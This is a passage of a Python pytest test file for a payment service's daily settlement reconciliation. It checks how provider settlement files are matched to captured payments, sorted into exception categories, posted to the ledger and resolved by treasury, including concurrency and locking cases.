"""Daily settlement: a provider's file for a business day is matched against what we captured, every line
and payment lands in one category, matched money is posted, and treasury resolves the rest."""

from __future__ import annotations

import asyncio
import json
from datetime import UTC, date, datetime, timedelta

import asyncpg
import pytest

import ledger
from paysvc.capture import capture
from paysvc.db import connect
from paysvc.settlement_days import business_date, parse_cutoff
from providers import PaymentNotice, SettlementLine
from providers.camt053 import write_statement
from providers.sandbox import write_settlement_csv
from tests.payments_helpers import new_invoice, pay

DAY = date(2025, 6, 2)                                   # a Monday, long past: its grace is over
AT = datetime(2025, 6, 2, 3, 0, tzinfo=UTC)              # 10:00 in Phnom Penh


async def issued_before(dsn: str, inv: dict, at: datetime) -> dict:
    """Date the invoice and its code an hour before ``at``, as if issued then: a payment reported as made
    before its code was issued is not believed (it is raised as paid_at_implausible)."""
    conn = await asyncpg.connect(dsn)
    try:
        await conn.execute("UPDATE invoices SET created_at = $2 WHERE id = $1", inv["id"], at - timedelta(hours=1))
        await conn.execute("UPDATE khqr_codes SET created_at = $2 WHERE invoice_id = $1", inv["id"],
                           at - timedelta(hours=1))
    finally:
        await conn.close()
    return inv


async def paid(api, portal, invoice_body, txid: str, *, at: datetime = AT, amount: int = 50000) -> dict:
    inv = await issued_before(api.dsn, await new_invoice(api, portal, invoice_body, amount=amount), at)
    r = await pay(api.client, inv, txid=txid, paid_at=at)
    assert r.status == 200, await r.text()
    return inv


def line(txid: str | None, amount: int, *, fee: int = 0, md5=None, bill=None, at: datetime = AT) -> SettlementLine:
    return SettlementLine(line_no=1, transaction_id=txid, md5=md5, bill_number=bill, amount=amount, currency="KHR",
                          paid_at=at, fee=fee)


async def upload(api, headers, data: bytes, *, provider="sandbox", day: date = DAY, fmt: str | None = None,
                 name="settlement.csv"):
    from aiohttp import FormData

    form = FormData()
    form.add_field("provider", provider)
    form.add_field("business_date", day.isoformat())
    if fmt:
        form.add_field("format", fmt)
    form.add_field("file", data, filename=name, content_type="text/csv")
    return await api.client.post("/v1/settlements", data=form, headers=headers)


async def clearing(dsn: str, provider: str = "sandbox", cur: str = "KHR") -> int:
    async with connect(dsn) as conn:
        try:
            return await ledger.balance(conn, f"provider:{provider}:clearing:{cur}")
        except ledger.AccountNotFound:
            return 0


async def count(dsn: str, sql: str, *args) -> int:
    conn = await asyncpg.connect(dsn)
    try:
        return await conn.fetchval(sql, *args)
    finally:
        await conn.close()


async def resolve(api, headers, exc_id: str, action: str, note: str = "checked with the bank", **kw):
    return await api.client.post(f"/v1/reconciliation/exceptions/{exc_id}/resolve",
                                 json={"action": action, "note": note, **kw}, headers=headers)


async def test_a_day_with_every_category_reconciles_and_clears_to_zero(api, portal, treasury, invoice_body):
    inv1 = await paid(api, portal, invoice_body, "TX-1")
    await paid(api, portal, invoice_body, "TX-2")
    await paid(api, portal, invoice_body, "TX-3")                    # the provider settles 1,000 less
    await paid(api, portal, invoice_body, "TX-4")                    # never settled
    inv5 = await paid(api, portal, invoice_body, "TX-5")             # the bank knows it by another reference
    # Paid, but its callback never reached us.
    inv6 = await issued_before(api.dsn, await new_invoice(api, portal, invoice_body), AT)
    assert await clearing(api.dsn) == 250000

    data = write_settlement_csv([
        line("TX-1", 50000, fee=100),
        line("TX-2", 50000, fee=100),
        line("TX-3", 49000, fee=100),
        line("BANKREF-5", 50000, fee=100, bill=inv5["bill_number"]),
        line("TX-1", 50000, fee=100),                                 # listed twice
        line("TX-6", 50000, fee=100, md5=inv6["khqr"]["md5"], bill=inv6["bill_number"]),
        line("TX-7", 7000),                                           # nobody issued this
    ])
    r = await upload(api, treasury, data)
    assert r.status == 201, await r.text()
    rep = await r.json()
    assert rep["business_date"] == "2025-06-02" and rep["business_date_time_zone"] == "Asia/Phnom_Penh"
    assert rep["times_time_zone"] == "UTC"
    cats = {k: (v["count"], v["amounts"].get("KHR", 0)) for k, v in rep["lines_by_category"].items()}
    assert cats == {"matched": (3, 150000), "amount_mismatch": (1, 49000), "duplicate_in_settlement": (1, 50000),
                    "missing_in_ledger": (2, 57000)}
    pays = {k: v["count"] for k, v in rep["payments_of_the_day"].items()}
    assert pays == {"matched": 3, "amount_mismatch": 1, "missing_in_ledger": 2, "missing_in_settlement": 1,
                    "expected": 0}
    by_line = {ln["line_no"]: ln for ln in rep["lines"]}
    assert by_line[5]["matched_by"] == "bill_number" and by_line[5]["category"] == "matched"
    # A line captured from the file names the exception its capture opened, as the other raised lines do.
    raised = {ln["line_no"]: (ln["category"], ln["exception_id"], ln["exception_state"]) for ln in rep["lines"]
              if ln["category"] != "matched"}
    assert {n: (c, st) for n, (c, _, st) in raised.items()} == {
        4: ("amount_mismatch", "open"), 6: ("duplicate_in_settlement", "open"), 7: ("missing_in_ledger", "open"),
        8: ("missing_in_ledger", "open")}
    assert all(exc_id for _, exc_id, _ in raised.values())
    # The payment no line settled is listed, whether or not the lines are (the import's summary lists none).
    summary = await (await api.client.get(f"/v1/settlements/{rep['id']}", params={"lines_limit": "0"},
                                          headers=treasury)).json()
    for r in (rep, summary):
        assert [(u["provider_transaction_id"], u["amount"]) for u in r["unsettled_payments"]] == [("TX-4", 50000)]
        assert r["unsettled_payments"][0]["exception_id"] and not r["unsettled_payments_more"]
    assert summary["lines"] == []
    # Settlement entry: matched and newly captured lines, net of fees, into the treasury's bank account.
    postings = {(p["account"], p["side"]): p["amount"] for p in rep["settlement_entry"]["postings"]}
    assert postings == {("treasury:bank:nbc-treasury:KHR", "debit"): 206600,
                        ("expense:provider-fees:sandbox:KHR", "debit"): 400,
                        ("provider:sandbox:clearing:KHR", "credit"): 207000}
    # What remains in clearing is what the report says, and why.
    assert await clearing(api.dsn) == 100000
    assert {k: v["amounts"] for k, v in rep["clearing_remaining"].items() if v["count"]} == {
        "amount_mismatch": {"KHR": 50000}, "missing_in_settlement": {"KHR": 50000}}
    # The invoice paid only through the file is paid now; agencies hear about the reconciled day.
    got = await (await api.client.get(f"/v1/invoices/{inv6['id']}", headers=portal)).json()
    assert got["status"] == "paid"
    events = await count(api.dsn, "SELECT count(*) FROM outbox_events WHERE type = 'settlement.reconciled'")
    assert events == 1

    r = await api.client.get("/v1/reconciliation/exceptions", params={"business_date": "2025-06-02",
                                                                      "state": "open"}, headers=treasury)
    open_ = {e["reason"]: e for e in (await r.json())["data"]}
    assert set(open_) == {"amount_mismatch", "duplicate_in_settlement", "missing_in_ledger", "unknown_khqr",
                          "missing_in_settlement"}
    assert {raised[n][1] for n in (4, 6, 7, 8)} == {open_[r]["id"] for r in (
        "amount_mismatch", "duplicate_in_settlement", "missing_in_ledger", "unknown_khqr")}
    assert summary["unsettled_payments"][0]["exception_id"] == open_["missing_in_settlement"]["id"]
    assert (await resolve(api, treasury, open_["amount_mismatch"]["id"], "refund_due")).status == 422
    for reason, action, kw in [("amount_mismatch", "write_off", {}), ("missing_in_settlement", "write_off", {}),
                               ("duplicate_in_settlement", "write_off", {}),
                               ("missing_in_ledger", "match_to_invoice", {"invoice_id": inv6["id"]}),
                               ("unknown_khqr", "refund_due", {})]:
        r = await resolve(api, treasury, open_[reason]["id"], action, **kw)
        assert r.status == 200, (reason, await r.text())
        # the key's name and id: names need not be unique
        assert (await r.json())["resolved_by"] == f"Treasury desk (key {treasury['Authorization'].split('_')[1]})"
    assert await clearing(api.dsn) == 0
    async with connect(api.dsn) as conn:
        assert await ledger.balance(conn, "suspense:unmatched:KHR") == 0
        assert await ledger.balance(conn, "suspense:refunds-due:KHR") == 7000
        assert await ledger.balance(conn, "expense:write-offs:sandbox:KHR") == 51000
        assert (await ledger.verify(conn)).ok
    rep = await (await api.client.get(f"/v1/settlements/{rep['id']}", headers=treasury)).json()
    assert rep["clean"] and rep["open_exceptions"] == []
    assert inv1


async def test_resolving_twice_is_refused_and_a_note_is_required(api, portal, treasury, invoice_body):
    await paid(api, portal, invoice_body, "TX-1")
    r = await upload(api, treasury, write_settlement_csv([line("TX-1", 40000)]))
    assert r.status == 201
    exc = (await r.json())["open_exceptions"][0]
    assert (await resolve(api, treasury, exc["id"], "write_off", note="   ")).status == 422
    assert (await resolve(api, treasury, exc["id"], "write_off")).status == 200
    r = await resolve(api, treasury, exc["id"], "write_off")
    assert r.status == 409
    assert await count(api.dsn, "SELECT count(*) FROM ledger_entries WHERE kind = 'exception_resolved'") == 1
    # The database refuses a second resolution even when the application's check is bypassed.
    conn = await asyncpg.connect(api.dsn)
    with pytest.raises(asyncpg.IntegrityConstraintViolationError):
        await conn.execute("UPDATE reconciliation_exceptions SET resolution_note = 'again' WHERE id = $1", exc["id"])
    await conn.close()


async def test_same_file_twice_is_one_settlement(api, portal, treasury, invoice_body):
    await paid(api, portal, invoice_body, "TX-1")
    data = write_settlement_csv([line("TX-1", 50000, fee=50)])
    first = await upload(api, treasury, data)
    again = await upload(api, treasury, data)
    assert first.status == 201 and again.status == 200
    a, b = await first.json(), await again.json()
    assert a["id"] == b["id"] and b["replayed"] is True
    assert await count(api.dsn, "SELECT count(*) FROM settlements") == 1
    assert await count(api.dsn, "SELECT count(*) FROM ledger_entries WHERE kind = 'settlement'") == 1
    other_day = await upload(api, treasury, data, day=DAY + timedelta(days=1))
    assert other_day.status == 409


async def test_two_files_for_one_day_reconcile_on_their_union(api, portal, treasury, invoice_body):
    today = business_date(datetime.now(UTC), parse_cutoff("23:59:59.999"))
    now = datetime.now(UTC)
    await paid(api, portal, invoice_body, "TX-A", at=now)
    await paid(api, portal, invoice_body, "TX-B", at=now)
    r1 = await upload(api, treasury, write_settlement_csv([line("TX-A", 50000, at=now)]), day=today)
    rep1 = await r1.json()
    assert rep1["payments_of_the_day"]["expected"]["count"] == 1        # within its grace: not yet an exception
    assert rep1["open_exceptions"] == []
    r2 = await upload(api, treasury, write_settlement_csv([line("TX-B", 50000, at=now), line("TX-A", 50000, at=now)]),
                      day=today)
    rep2 = await r2.json()
    assert r2.status == 201
    assert rep2["lines_by_category"]["matched"]["count"] == 1
    assert rep2["lines_by_category"]["duplicate_in_settlement"]["count"] == 1   # TX-A was settled by file 1
    assert rep2["payments_of_the_day"]["matched"]["count"] == 2
    assert await clearing(api.dsn) == 0
    r = await api.client.get("/v1/settlements", params={"business_date": today.isoformat()}, headers=treasury)
    assert len((await r.json())["data"]) == 2


@pytest.mark.parametrize("fmt", ["sandbox", "camt053"])
async def test_a_malformed_file_is_rejected_whole(api, portal, treasury, invoice_body, fmt):
    inv = await new_invoice(api, portal, invoice_body)
    good = [line("TX-9", 50000, md5=inv["khqr"]["md5"])] + [line(f"TX-{i}", 1000 + i) for i in range(5)]
    if fmt == "sandbox":
        data = write_settlement_csv(good).replace(b",1003,", b",10x3,")
        where = 6  # header, TX-9, TX-0, TX-1, TX-2, then TX-3
    else:
        data = write_statement(good)
        bad_at = data.index(b">1003<")
        data = data[:bad_at] + b">10.03.5<" + data[bad_at + 6:]
        where = data[:data.index(b"<TxDtls>", bad_at)].count(b"\n") + 1  # where its TxDtls starts
    entries = await count(api.dsn, "SELECT count(*) FROM ledger_entries")
    r = await upload(api, treasury, data, fmt=None if fmt == "sandbox" else fmt)
    assert r.status == 422, await r.text()
    problem = await r.json()
    assert problem["line"] == where and problem["reason"]
    assert r.content_type == "application/problem+json"
    # Nothing half-imported: no settlement, no payment captured from the good first line, no entry.
    assert await count(api.dsn, "SELECT count(*) FROM settlements") == 0
    assert await count(api.dsn, "SELECT count(*) FROM payments") == 0
    assert await count(api.dsn, "SELECT count(*) FROM ledger_entries") == entries


async def test_a_bank_statement_settles_sandbox_payments(api, portal, treasury, invoice_body):
    await paid(api, portal, invoice_body, "TX-1", amount=12345)
    r = await upload(api, treasury, write_statement([line("TX-1", 12345, fee=45)]), fmt="camt053", name="stmt.xml")
    assert r.status == 201, await r.text()
    rep = await r.json()
    assert rep["format"] == "camt053" and rep["provider"] == "sandbox"
    assert rep["lines_by_category"]["matched"]["count"] == 1
    assert await clearing(api.dsn) == 0


async def test_overdue_payments_are_raised_by_the_recheck(api, portal, treasury, invoice_body):
    from paysvc.api_settlements import rules_of
    from paysvc.settlement_import import raise_overdue
    from paysvc.web import SETTINGS

    await paid(api, portal, invoice_body, "TX-1")                    # 2 June, never settled
    rules = rules_of(api.client.app[SETTINGS])
    async with connect(api.dsn) as conn:
        assert await raise_overdue(conn, provider="sandbox", today=DAY + timedelta(days=2), rules=rules,
                                   now=datetime.now(UTC)) == 0        # Wednesday: still in its grace
        assert await raise_overdue(conn, provider="sandbox", today=DAY + timedelta(days=3), rules=rules,
                                   now=datetime.now(UTC)) == 1        # Thursday: overdue
        assert await raise_overdue(conn, provider="sandbox", today=DAY + timedelta(days=9), rules=rules,
                                   now=datetime.now(UTC)) == 0        # raised once
        row = await conn.fetchrow("SELECT business_date, amount FROM reconciliation_exceptions")
    assert row["business_date"] == DAY and row["amount"] == 50000


async def _old_payment_of(dsn: str, provider: str, payment_id: str) -> None:
    """A payment of ``provider`` 400 days old, written directly (its provider need not be configured)."""
    conn = await asyncpg.connect(dsn)
    try:
        await conn.execute("SET session_replication_role = replica")  # no invoice, agency or inbox row needed
        await conn.execute(
            "INSERT INTO payments (id, provider, provider_transaction_id, currency, amount, applied_amount, "
            "suspense_amount, paid_at, captured_at, source) VALUES ($1, $2, $1, 'KHR', 100, 0, 100, "
            "now() - interval '400 days', now() - interval '400 days', 'callback')", payment_id, provider)
    finally:
        await conn.close()


async def test_the_service_raises_overdue_payments_by_itself_once_a_business_day(db_dsn, invoice_body):
    """Found by a review of the docs: only an import of the payment's provider, or ``paysvc settlements recheck``
    run by hand, raised missing_in_settlement, so the payments of a provider whose files stopped coming, the case
    the exception is for, were raised by nobody. Only providers that have had a settlement imported are checked
    (found by review: the first pass raised the whole history of providers nobody reconciles)."""
    from tests.conftest import running_api

    async with running_api(db_dsn) as api:  # background jobs off
        treasury = {"Authorization": f"Bearer {await api.key(None, scopes=['treasury'])}"}
        r = await upload(api, treasury, write_settlement_csv([]), day=DAY - timedelta(days=30))  # its files came once
        assert r.status == 201, await r.text()
        inv = await paid(api, await api.portal("MOI"), invoice_body, "TX-1")  # 2 June 2025: long past its grace
    await _old_payment_of(db_dsn, "bakong", "pay_never_reconciled")  # no file of bakong ever imported
    assert await count(db_dsn, "SELECT count(*) FROM reconciliation_exceptions") == 0
    async with running_api(db_dsn, background=True) as api:  # the job's first pass runs at start
        async with connect(db_dsn) as conn:
            for _ in range(100):
                row = await conn.fetchrow("SELECT id, reason, invoice_id, business_date FROM reconciliation_exceptions")
                if row is not None:
                    break
                await asyncio.sleep(0.1)
            else:
                pytest.fail("no missing_in_settlement was raised by the service's background job")
            assert (row["reason"], row["invoice_id"], row["business_date"]) == ("missing_in_settlement", inv["id"], DAY)
            told = await conn.fetchval("SELECT count(*) FROM outbox_events WHERE type = 'reconciliation.exception_opened' "
                                       "AND data->>'exception_id' = $1", row["id"])
            assert told == 1  # the agency hears of it as of any other exception
    assert await count(db_dsn, "SELECT count(*) FROM reconciliation_exceptions") == 1  # not bakong's

    from paysvc.api_settlements import rules_of
    from paysvc.db import create_pool
    from paysvc.settlement_import import lock_provider, overdue_check
    from tests.conftest import make_settings

    settings = make_settings(db_dsn)
    pool = await create_pool(db_dsn, settings)
    try:
        check = overdue_check(pool, rules_of(settings))
        assert await check() is None  # raised already: nothing more
        async with running_api(db_dsn) as api:
            await paid(api, {"Authorization": f"Bearer {await api.key('MOI')}"}, invoice_body, "TX-2")
        assert await check() is None  # once per business day: not looked at again today
        # Another process's pass, while an import of sandbox runs: skipped, not waited for; the next pass checks it.
        other = overdue_check(pool, rules_of(settings))
        importing = await asyncpg.connect(db_dsn)
        try:
            async with importing.transaction():
                await lock_provider(importing, "sandbox")
                said = await asyncio.wait_for(other(), 5)
                assert said is not None and "sandbox skipped while an import or a resolution holds its settlement lock" in said
                assert "raised" not in said
        finally:
            await importing.close()
        assert "raised 1 missing_in_settlement" in await other()
    finally:
        await pool.close()


async def test_a_daily_overdue_pass_that_fails_is_tried_again_at_the_next(api, portal, treasury, invoice_body,
                                                                           monkeypatch):
    """Found by review: nothing showed that a failed pass leaves the day to do."""
    import paysvc.settlement_import as si
    from paysvc.api_settlements import rules_of
    from paysvc.web import POOL, SETTINGS

    assert (await upload(api, treasury, write_settlement_csv([]), day=DAY - timedelta(days=30))).status == 201
    await paid(api, portal, invoice_body, "TX-1")
    real, calls = si.raise_overdue, []

    async def failing_once(*args, **kw):
        calls.append(kw["provider"])
        if len(calls) == 1:
            raise ConnectionError("the database went away")
        return await real(*args, **kw)

    monkeypatch.setattr(si, "raise_overdue", failing_once)
    check = si.overdue_check(api.client.app[POOL], rules_of(api.client.app[SETTINGS]))
    with pytest.raises(ConnectionError):
        await check()
    assert await count(api.dsn, "SELECT count(*) FROM reconciliation_exceptions") == 0
    assert "raised 1 missing_in_settlement" in await check()
    assert calls == ["sandbox", "sandbox"] and await check() is None


async def test_treasury_scope_is_required(api, portal, invoice_body):
    r = await upload(api, portal, write_settlement_csv([line("TX-1", 1)]))
    assert r.status == 403


async def test_the_csv_report_has_every_line_and_says_its_time_zone(api, portal, treasury, invoice_body):
    await paid(api, portal, invoice_body, "TX-1")
    await paid(api, portal, invoice_body, "TX-2")
    rep = await (await upload(api, treasury, write_settlement_csv([line("TX-1", 50000), line("TX-1", 50000)]))).json()
    r = await api.client.get(f"/v1/settlements/{rep['id']}/report.csv", headers=treasury)
    assert r.status == 200 and r.content_type == "text/csv"
    rows = (await r.text()).splitlines()
    assert rows[0].split(",")[2] == "business_date_asia_phnom_penh" and "paid_at_utc" in rows[0]
    cats = [row.split(",")[13] for row in rows[1:]]
    assert cats == ["matched", "duplicate_in_settlement", "missing_in_settlement"]


async def test_concurrent_imports_of_one_file_make_one_settlement(api, portal, treasury, invoice_body):
    await paid(api, portal, invoice_body, "TX-1")
    data = write_settlement_csv([line("TX-1", 50000)])
    rs = await asyncio.gather(*(upload(api, treasury, data) for _ in range(4)))
    assert sorted(r.status for r in rs) == [200, 200, 200, 201]
    assert len({(await r.json())["id"] for r in rs}) == 1
    assert await count(api.dsn, "SELECT count(*) FROM settlement_lines") == 1


async def test_a_late_line_resolves_the_missing_in_settlement_exception_it_settles(api, portal, treasury,
                                                                                   invoice_body):
    await paid(api, portal, invoice_body, "TX-1")
    await paid(api, portal, invoice_body, "TX-2")                     # left out of the first day's file
    await paid(api, portal, invoice_body, "TX-3")                     # left out too; settled late for less
    r = await upload(api, treasury, write_settlement_csv([line("TX-1", 50000)]))
    assert r.status == 201, await r.text()
    raised = await (await api.client.get("/v1/reconciliation/exceptions",
                                         params={"reason": "missing_in_settlement", "state": "open"},
                                         headers=treasury)).json()
    assert len(raised["data"]) == 2                                   # the day's grace is long over
    assert await clearing(api.dsn) == 100000

    # The next day's file carries both late payments.
    r = await upload(api, treasury, write_settlement_csv([line("TX-2", 50000, fee=100), line("TX-3", 49000)]),
                     day=DAY + timedelta(days=1))
    assert r.status == 201, await r.text()
    rep = await r.json()
    got = {e["id"]: e for e in (await (await api.client.get(
        "/v1/reconciliation/exceptions", params={"reason": "missing_in_settlement"}, headers=treasury)).json())["data"]}
    assert {e["state"] for e in got.values()} == {"resolved"}
    assert {e["resolution"] for e in got.values()} == {"settled_late"}
    assert {e["resolved_by"] for e in got.values()} == {f"settlement:{rep['id']}"}
    by_payment = {e["payment_id"]: e for e in got.values()}
    tx2, tx3 = (await payment_ids(api.dsn, "TX-2", "TX-3"))
    assert by_payment[tx2]["resolution_entry_id"] == rep["settlement_entry"]["id"]  # that entry settled it
    assert by_payment[tx3]["resolution_entry_id"] is None                         # the mismatch carries it
    # Clearing holds only TX-3's 50,000, now under the amount_mismatch exception treasury still owns.
    assert await clearing(api.dsn) == 50000
    still_open = (await (await api.client.get("/v1/reconciliation/exceptions", params={"state": "open"},
                                              headers=treasury)).json())["data"]
    assert [e["reason"] for e in still_open] == ["amount_mismatch"]
    assert still_open[0]["id"] in by_payment[tx3]["resolution_note"]
    # Resolving a settled exception again is refused: a resolution is final.
    assert (await resolve(api, treasury, by_payment[tx2]["id"], "write_off")).status == 409
    assert (await resolve(api, treasury, still_open[0]["id"], "write_off")).status == 200
    assert await clearing(api.dsn) == 0


async def payment_ids(dsn: str, *txids: str) -> list[str]:
    conn = await asyncpg.connect(dsn)
    try:
        rows = await conn.fetch("SELECT provider_transaction_id, id FROM payments "
                                "WHERE provider_transaction_id = ANY($1::text[])", list(txids))
    finally:
        await conn.close()
    ids = {r["provider_transaction_id"]: r["id"] for r in rows}
    return [ids[t] for t in txids]


async def _until_waiting_on_a_lock(dsn: str) -> None:
    """Return once some session of this test's database waits on a row lock (or fail after 10 s)."""
    for _ in range(200):
        if await count(dsn, "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
                            "AND wait_event_type = 'Lock'"):
            return
        await asyncio.sleep(0.05)
    raise AssertionError("nothing came to wait on the lock")


def _notice(inv: dict, txid: str) -> PaymentNotice:
    return PaymentNotice(provider="sandbox", transaction_id=txid, md5=inv["khqr"]["md5"],
                         bill_number=inv["bill_number"], amount=inv["amount"], currency="KHR", paid_at=AT,
                         confirmed=True)


async def test_a_line_whose_callback_commits_while_the_import_waits_for_it_is_matched(api, portal, treasury,
                                                                                     invoice_body):
    """A callback's capture holds the invoice while a file with the same payment is imported. The import
    waits for that transaction, then must find its payment and match the line: neither book the money a
    second time nor refuse the file."""
    inv = await issued_before(api.dsn, await new_invoice(api, portal, invoice_body, amount=50000), AT)
    async with connect(api.dsn) as conn:
        tx = conn.transaction()
        await tx.start()
        assert (await capture(conn, _notice(inv, "TX-R"), source="callback", now=datetime.now(UTC))).created
        importing = asyncio.create_task(
            upload(api, treasury, write_settlement_csv([line("TX-R", 50000, md5=inv["khqr"]["md5"])])))
        await _until_waiting_on_a_lock(api.dsn)
        await tx.commit()
    r = await importing
    assert r.status == 201, await r.text()
    assert await count(api.dsn, "SELECT count(*) FROM payments") == 1
    assert await count(api.dsn, "SELECT count(*) FROM ledger_entries WHERE kind = 'payment.captured'") == 1
    assert await count(api.dsn, "SELECT count(*) FROM reconciliation_exceptions") == 0
    assert await clearing(api.dsn) == 0  # captured once, settled once


async def test_the_poll_does_not_wait_for_an_import_holding_its_codes(api, portal, treasury, invoice_body):
    """An import captures the payments missing from the ledger, and each capture marks its code; the
    transaction holds those codes until the whole file is done. The poller's release of its lease must not
    wait for it: it used to, and with two codes taken in opposite orders the two deadlocked."""
    from paysvc.queries import Q

    a = await issued_before(api.dsn, await new_invoice(api, portal, invoice_body, amount=50000), AT)
    b = await issued_before(api.dsn, await new_invoice(api, portal, invoice_body, amount=50000), AT)
    async with connect(api.dsn) as importer, connect(api.dsn) as poller:
        tx = importer.transaction()
        await tx.start()
        await capture(importer, _notice(a, "S-A"), source="settlement", now=datetime.now(UTC),
                      flag="missing_in_ledger")
        # Neither code was claimed: the release of "no lease" ($3 NULL) takes both, as far as it may.
        await asyncio.wait_for(poller.execute(Q.poll_release, [b["khqr"]["md5"], a["khqr"]["md5"]], True,
                                              None, None, []), 10)
        await capture(importer, _notice(b, "S-B"), source="settlement", now=datetime.now(UTC),
                      flag="missing_in_ledger")
        await tx.commit()
        rows = {r["md5"]: r for r in await poller.fetch(
            "SELECT md5, last_polled_at, captured_at FROM khqr_codes WHERE md5 = ANY($1::text[])",
            [a["khqr"]["md5"], b["khqr"]["md5"]])}
    assert rows[b["khqr"]["md5"]]["last_polled_at"] is not None  # released
    assert rows[a["khqr"]["md5"]]["last_polled_at"] is None       # skipped: it was being captured
    assert all(r["captured_at"] is not None for r in rows.values())
    assert await count(api.dsn, "SELECT count(*) FROM payments") == 2


async def test_a_callback_after_its_payment_was_captured_from_the_settlement_file_is_a_retry_not_a_conflict(
        api, portal, treasury, invoice_body):
    """Found by review: a payment captured from a settlement line holds the file's time; the provider's own
    callback for the same transaction, reported a little differently, opened a false conflicting_notice."""
    inv = await issued_before(api.dsn, await new_invoice(api, portal, invoice_body, amount=50000), AT)
    r = await upload(api, treasury, write_settlement_csv([line("TX-FILE-FIRST", 50000, md5=inv["khqr"]["md5"])]))
    assert r.status == 201, await r.text()
    r = await pay(api.client, inv, txid="TX-FILE-FIRST", paid_at=AT + timedelta(seconds=2))
    assert r.status == 200, await r.text()
    [payment] = (await r.json())["payments"]
    assert payment["new"] is False and payment["exception"] is None, payment
    conn = await asyncpg.connect(api.dsn)
    try:
        reasons = [x["reason"] for x in await conn.fetch("SELECT reason FROM reconciliation_exceptions")]
    finally:
        await conn.close()
    assert reasons == ["missing_in_ledger"], reasons


async def _import_open(api, lines: list[SettlementLine], day: date):
    """An import of ``lines`` on its own connection, done but not committed yet: (connection, transaction)."""
    from paysvc.api_settlements import rules_of
    from paysvc.db import init_connection
    from paysvc.settlement_import import import_settlement
    from paysvc.web import SETTINGS

    conn = await asyncpg.connect(api.dsn)
    await init_connection(conn)
    tx = conn.transaction()
    await tx.start()
    await import_settlement(conn, iter(lines), data_sha256=bytes(32), file_size=0, provider="sandbox",
                            fmt="sandbox", business_date=day, file_name=None, imported_by="test",
                            now=datetime.now(UTC), rules=rules_of(api.client.app[SETTINGS]))
    return conn, tx


async def test_a_resolution_waits_for_an_import_that_settles_its_payment(api, portal, treasury, invoice_body):
    """Found by review: a write_off of missing_in_settlement committed while an import ran, after the import
    had sorted that payment's line as matched and before it closed the exception; the import's entry then
    credited the provider's clearing a second time (and the write-off booked a loss for money that arrived).
    Here the import is held just after sorting its lines (a session locks settlement_lines, as a slow big
    file would take time there); the resolution now waits for the import (the provider's lock), which closes
    the exception as settled late, so the write_off is refused."""
    from paysvc.api_settlements import rules_of
    from paysvc.settlement_import import raise_overdue
    from paysvc.web import SETTINGS

    await paid(api, portal, invoice_body, "TX-1")
    async with connect(api.dsn) as conn:
        assert await raise_overdue(conn, provider="sandbox", today=DAY + timedelta(days=3),
                                   rules=rules_of(api.client.app[SETTINGS]), now=datetime.now(UTC)) == 1
    [missing] = (await (await api.client.get("/v1/reconciliation/exceptions", headers=treasury,
                                             params={"reason": "missing_in_settlement"})).json())["data"]
    assert await clearing(api.dsn) == 50000
    blocker = await asyncpg.connect(api.dsn)
    try:
        hold = blocker.transaction()
        await hold.start()
        await blocker.execute("LOCK TABLE settlement_lines IN EXCLUSIVE MODE")

        async def run_import() -> None:
            conn, tx = await _import_open(api, [line("TX-1", 50000)], DAY + timedelta(days=4))
            try:
                await tx.commit()
            finally:
                await conn.close()
        importing = asyncio.create_task(run_import())
        for _ in range(100):  # until the import waits for the table, its lines sorted
            if await blocker.fetchval("SELECT count(*) FROM pg_locks WHERE relation = 'settlement_lines'::regclass "
                                      "AND NOT granted"):
                break
            await asyncio.sleep(0.05)
        else:
            raise AssertionError("the import never reached settlement_lines")
        resolving = asyncio.create_task(resolve(api, treasury, missing["id"], "write_off"))
        await asyncio.sleep(1.0)
        assert not resolving.done(), "the resolution did not wait for the import"
        await hold.rollback()
    finally:
        await blocker.close()
    await importing
    r = await resolving
    assert r.status == 409, await r.text()  # the import closed it: settled late
    assert await clearing(api.dsn) == 0  # credited once, by the settlement
    assert await count(api.dsn, "SELECT count(*) FROM ledger_postings p JOIN ledger_accounts a "
                                "ON a.id = p.account_id WHERE a.code LIKE 'expense:write-offs:%'") == 0


async def test_a_recheck_waits_for_an_import_and_does_not_raise_what_it_settles(api, portal, treasury, invoice_body):
    """Found by review: the overdue check took no lock, so during an import it raised missing_in_settlement for
    a payment that import was settling (its lines not committed yet), and the exception stayed open after
    the import: resolving it credited clearing a second time. Now the check waits for the import; and a
    missing_in_settlement whose payment a line settles is refused, whatever opened it."""
    from paysvc.api_settlements import rules_of
    from paysvc.settlement_import import raise_overdue
    from paysvc.web import SETTINGS

    await paid(api, portal, invoice_body, "TX-1")
    rules = rules_of(api.client.app[SETTINGS])
    conn, tx = await _import_open(api, [line("TX-1", 50000)], DAY + timedelta(days=4))

    async def recheck() -> int:
        async with connect(api.dsn) as other, other.transaction():
            return await raise_overdue(other, provider=None, today=DAY + timedelta(days=3), rules=rules,
                                       now=datetime.now(UTC))
    try:
        checking = asyncio.create_task(recheck())
        await asyncio.sleep(1.0)
        assert not checking.done(), "the recheck did not wait for the import"
        await tx.commit()
    finally:
        await conn.close()
    assert await checking == 0
    assert await clearing(api.dsn) == 0

    # An exception opened that way before the fix: whatever treasury asks, it is closed as settled late (the line
    # settles it), and nothing is posted: a write_off would credit clearing a second time.
    async with connect(api.dsn) as c:
        pay_id = await c.fetchval("SELECT id FROM payments")
        await c.execute("INSERT INTO reconciliation_exceptions (id, reason, provider, payment_id, currency, amount, "
                        "business_date, evidence, opened_at) VALUES ('exc_legacy', 'missing_in_settlement', "
                        "'sandbox', $1, 'KHR', 50000, $2, '{}', now())", pay_id, DAY)
    r = await resolve(api, treasury, "exc_legacy", "write_off")
    assert r.status == 200, await r.text()
    out = await r.json()
    assert (out["resolution"], out["postings"]) == ("settled_late", [])
    assert out["resolution_note"].startswith("settled late: line 1 of settlement stl_")
    settlement_entry = await count(api.dsn, "SELECT journal_entry_id FROM settlements")
    assert out["resolution_entry_id"] == settlement_entry
    assert await clearing(api.dsn) == 0
    r = await resolve(api, treasury, "exc_legacy", "write_off")
    assert r.status == 409


async def _part_paid_then_refunded(api, portal, treasury, invoice_body) -> dict:
    """An invoice of 1,000; an underpaid 400 (TX-P) applied to it by treasury; never settled, the provider
    returned it (refund_due of its missing_in_settlement)."""
    from paysvc.api_settlements import rules_of
    from paysvc.settlement_import import raise_overdue
    from paysvc.web import SETTINGS

    inv = await issued_before(api.dsn, await new_invoice(api, portal, invoice_body, amount=1000), AT)
    r = await pay(api.client, inv, txid="TX-P", amount=400, paid_at=AT)
    assert (await r.json())["payments"][0]["exception"] == "underpaid"
    [under] = (await (await api.client.get("/v1/reconciliation/exceptions", headers=treasury,
                                           params={"reason": "underpaid"})).json())["data"]
